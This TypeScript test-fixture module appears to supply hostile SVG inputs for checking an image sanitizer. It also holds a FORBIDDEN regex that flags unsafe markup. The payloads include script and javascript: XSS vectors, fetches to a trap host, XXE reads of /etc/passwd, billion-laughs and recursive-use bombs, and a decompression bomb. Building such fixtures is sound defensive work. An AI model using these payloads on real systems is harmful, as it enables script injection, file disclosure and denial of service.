import { createBomb } from './png.ts';

const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
export const createSvg = (inner: string, attributes = '') =>
  `<svg ${NS} viewBox="0 0 100 100" ${attributes}><rect width="100" height="100" fill="#2A6F97"/>${inner}</svg>`;

/** Drawings that run or fetch; `trap` hears of whatever is asked of it. */
export function createReachingDrawings(trap: string): Record<string, string> {
  const run = `fetch('${trap}/ran')`;
  const html = 'xmlns="http://www.w3.org/1999/xhtml"';
  return {
    'a script': createSvg(`<script>${run}</script>`),
    'a script from elsewhere': createSvg(`<script href="${trap}/s.js"/>`),
    'a script with a prefix of its own': `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><s:script>${run}</s:script><s:rect width="9" height="9"/></s:svg>`,
    'a script of HTML': createSvg(`<script ${html}>${run}</script>`),
    'onload of the drawing': createSvg('', `onload="${run}"`),
    'onload of a drawing inside': createSvg(`<svg onload="${run}"><path d="M0 0h9"/></svg>`),
    'onclick, onfocus and onerror': createSvg(
      `<rect width="9" height="9" onclick="${run}" onfocus="${run}" onerror="${run}" tabindex="0"/>`,
    ),
    'an animation that begins': createSvg(`<animate attributeName="x" onbegin="${run}" dur="1s"/>`),
    'a link that runs': createSvg(`<a href="javascript:${run}"><rect width="9" height="9"/></a>`),
    'a link that runs, in entities': createSvg(
      `<a xlink:href="javascript&#58;${run}"><rect width="9" height="9"/></a>`,
    ),
    'an animated link': createSvg(
      `<a><animate attributeName="href" values="javascript:${run}"/><rect width="9" height="9"/></a>`,
    ),
    'a set link': createSvg(
      `<a><set attributeName="xlink:href" to="javascript:${run}"/><rect width="9" height="9"/></a>`,
    ),
    'a page in a drawing': createSvg(
      `<foreignObject width="90" height="90"><iframe ${html} src="${trap}/frame"/></foreignObject>`,
    ),
    'a broken picture of HTML': createSvg(
      `<foreignObject width="9" height="9"><img ${html} src="x" onerror="${run}"/></foreignObject>`,
    ),
    'a frame without foreignObject': createSvg(`<iframe ${html} src="${trap}/frame"/>`),
    'an object and an embed': createSvg(`<object ${html} data="${trap}/o"/><embed ${html} src="${trap}/e"/>`),
    'a style sheet linked': createSvg(`<link ${html} rel="stylesheet" href="${trap}/link.css"/>`),
    'a listener of XML events': createSvg(
      `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler>`,
    ),
    'a picture from elsewhere': createSvg(`<image href="${trap}/i.png" width="9" height="9"/>`),
    'a picture from elsewhere, by xlink': createSvg(
      `<image xlink:href="${trap}/i.png" width="9" height="9"/>`,
    ),
    'a picture without a scheme': createSvg(
      `<image href="${trap.replace('http:', '')}/i.png" width="9" height="9"/>`,
    ),
    'a file of the machine': createSvg(
      '<image href="file:///etc/passwd" width="9" height="9"/><use href="file:///etc/passwd#a"/>',
    ),
    'a drawing used from elsewhere': createSvg(
      `<use href="${trap}/u.svg#a"/><use xlink:href="${trap}/u2.svg#a"/>`,
    ),
    'a drawing used from data': createSvg(
      `<use href="data:image/svg+xml,${encodeURIComponent(createSvg(`<script>${run}</script>`))}#a"/>`,
    ),
    'a drawing inside as data': createSvg(
      `<image width="9" height="9" href="data:image/svg+xml;base64,${Buffer.from(createSvg(`<script>${run}</script>`)).toString('base64')}"/>`,
    ),
    '@import': createSvg(
      `<style>@import url(${trap}/a.css); @import "${trap}/b.css"; .a { fill: red }</style>`,
    ),
    '@import in an escape': createSvg(`<style>@\\69mport "${trap}/c.css"; .a{fill:red}</style>`),
    'a font from elsewhere': createSvg(
      `<style>@font-face{font-family:x;src:url(${trap}/f.woff)} text{font-family:x}</style><text>a</text>`,
    ),
    'url() in a style sheet': createSvg(
      `<style>rect{fill:url(${trap}/p.svg#a);background:url("${trap}/b")}</style>`,
    ),
    'url() in an escape': createSvg(`<style>rect{fill:u\\72l(${trap}/p.svg#a)}</style>`),
    'url() in a style': createSvg(
      `<rect width="9" height="9" style="fill:url(${trap}/p.svg#a);cursor:url(${trap}/c)"/>`,
    ),
    'url() in attributes': createSvg(
      `<rect width="9" height="9" fill="url(${trap}/p.svg#a)" mask="url('${trap}/m.svg#a')" clip-path="url(${trap}/c.svg#a)" marker-end="url(${trap}/e.svg#a)"/>`,
    ),
    'image-set() and src()': createSvg(
      `<rect width="9" height="9" style="mask:image-set('${trap}/x' 1x);fill:src('${trap}/y')"/>`,
    ),
    'a filter that fetches': createSvg(
      `<filter id="f"><feImage href="${trap}/fe.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
    ),
    'a style sheet before the drawing': `<?xml-stylesheet href="${trap}/s.css"?>${createSvg('')}`,
    'a document type from elsewhere': `<!DOCTYPE svg SYSTEM "${trap}/svg.dtd">${createSvg('')}`,
    'a style that ends early': createSvg(`<style><![CDATA[</style><script>${run}</script><style>]]></style>`),
    'a comment that ends early': createSvg(`<!-- --><script>${run}</script><!-- -->`),
  };
}

/** Drawings that do not end, or say what they must not. */
export function createRefusedDrawings(trap: string): Record<string, string> {
  const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join(
    '',
  );
  const nested = Array.from(
    { length: 30 },
    (_, at) => `<g id="u${at + 1}">${`<use href="#u${at}"/>`.repeat(10)}</g>`,
  );
  return {
    'a billion laughs': `<!DOCTYPE svg [<!ENTITY l0 "ha">${laughs}]>${createSvg('<text>&l9;</text>')}`,
    'one long entity, often': `<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(100_000)}">]>${createSvg(`<text>${'&a;'.repeat(10_000)}</text>`)}`,
    'a file as an entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${createSvg('<text>&x;</text>')}`,
    'an entity from elsewhere': `<!DOCTYPE svg [<!ENTITY % p SYSTEM "${trap}/p.dtd"> %p;]>${createSvg('')}`,
    'an entity that nobody knows': createSvg('<text>&unknown;</text>'),
    'a billion uses': createSvg(`<g id="u0"><path d="M0 0h9"/></g>${nested.join('')}<use href="#u30"/>`),
    'a drawing that uses itself': createSvg('<g id="a"><use href="#a"/></g>'),
    'two patterns that fill each other': createSvg(
      '<pattern id="p" width="9" height="9"><rect width="9" height="9" fill="url(#q)"/></pattern><pattern id="q" width="9" height="9"><rect width="9" height="9" fill="url(#p)"/></pattern><rect width="9" height="9" fill="url(#p)"/>',
    ),
    'a marker on every point': createSvg(
      `<marker id="m">${'<path d="M0 0h9"/>'.repeat(2000)}</marker><path marker-mid="url(#m)" d="M${'1 1 '.repeat(5000)}"/>`,
    ),
    'ten thousand groups in each other': createSvg('<g>'.repeat(10_000) + '</g>'.repeat(10_000)),
    'a hundred thousand shapes': createSvg('<path d="M0 0"/>'.repeat(100_000)),
    'a page that calls itself a drawing': `<!doctype html><html><body><script>fetch('${trap}/ran')</script></body></html>`,
    'half a drawing': createSvg('').slice(0, 120),
    'a drawing a million times as long as high': `<svg ${NS} viewBox="0 0 1000000 1"><path d="M0 0h9"/></svg>`,
    'a picture inside that is a bomb': createSvg(
      `<image width="9" height="9" href="data:image/png;base64,${createBomb(20_000, 20_000).toString('base64')}"/>`,
    ),
    'a picture inside that is none': createSvg(
      `<image width="9" height="9" href="data:image/png;base64,${Buffer.from(createSvg('')).toString('base64')}"/>`,
    ),
  };
}

/** What no clean drawing has. */
export const FORBIDDEN =
  /<script|<style[^>]*>[^<]*(?:@|url\((?!#))|\son\w+=|javascript:|foreignObject|<(?:iframe|object|embed|link|animate|set|handler|filter|metadata)|<!|<\?|url\((?!#)|(?:href|src)="(?!#)(?!data:image\/(?:png|jpeg);base64,)|127\.0\.0\.1|file:/i;
